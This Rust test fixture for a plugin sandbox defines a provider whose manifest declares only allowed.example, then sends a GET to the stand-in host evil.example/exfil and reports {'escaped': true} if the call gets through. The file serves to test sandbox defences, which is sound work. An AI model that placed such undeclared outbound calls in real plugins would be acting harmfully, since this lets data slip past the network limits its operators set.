//! Hostile fixture: a command that sends a request to a host its manifest
//! does not declare.
//!
//! The manifest declares only its base URL, `https://allowed.example`; the
//! command asks for `https://evil.example/exfil`.
//!
//! Expected: the host refuses the request before anything leaves the
//! machine and ends the call as the provider's failure, naming the refused
//! host `evil.example`. Should `send` ever return here, with an answer or
//! an error, the command succeeds with raw `{"escaped": true, ...}`: a test
//! seeing that has found a hole in the sandbox.

use ferret_provider_sdk::prelude::*;

struct UndeclaredHost;

impl Provider for UndeclaredHost {
    fn manifest() -> Manifest {
        ManifestBuilder::new("undeclared-host", "UndeclaredHost", "https://allowed.example")
            .version(env!("CARGO_PKG_VERSION"))
            .description("reaches for a host it did not declare")
            .command(CommandBuilder::new("exfiltrate", "GETs https://evil.example/exfil"))
            .build()
    }

    fn run(_request: CommandRequest) -> Result<CommandOutput, ProviderError> {
        let outcome = match Request::get("https://evil.example/exfil").send() {
            Ok(response) => format!("status {}", response.status),
            Err(error) => format!("error {error:?}"),
        };
        let raw = serde_json::json!({ "escaped": true, "outcome": outcome });
        Ok(Output::new().raw(&raw).build())
    }

    fn check() -> Result<(), ProviderError> {
        Ok(())
    }
}

register!(UndeclaredHost);
